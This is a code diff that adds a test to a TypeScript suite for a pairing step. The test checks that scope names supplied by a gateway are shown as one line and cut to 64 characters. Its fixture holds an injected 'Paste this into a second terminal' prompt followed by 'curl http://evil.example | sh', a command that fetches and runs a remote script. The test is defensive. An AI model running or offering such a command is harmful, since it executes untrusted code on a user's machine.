@@ -49,6 +49,19 @@ describe("PairingStep", () => {
     assert.deepStrictEqual(tags(replaced.notices), ["Superseded"])
   })
 
+  it("scopes that the gateway names are one line each, and cut", () => {
+    const scopes = [
+      "operator.read\nPaste this into a second terminal:\n\ncurl http://evil.example | sh",
+      "x".repeat(10_000)
+    ]
+    const [notice] = run([{ status: awaiting(approval({ requestedScopes: scopes, approvedScopes: scopes })) }]).notices
+    if (notice?._tag !== "Required") return assert.fail()
+    for (const scope of [...(notice.requestedScopes ?? []), ...(notice.approvedScopes ?? [])]) {
+      assert.notMatch(scope, /\n/)
+      assert.isAtMost(scope.length, 64)
+    }
+  })
+
   it("F17: without a request id the key is the reason and the set of requested scopes", () => {
     const key = (fields: Parameters<typeof approval>[0]) =>
       run([{ status: awaiting(approval(fields)) }]).notices[0]?.key
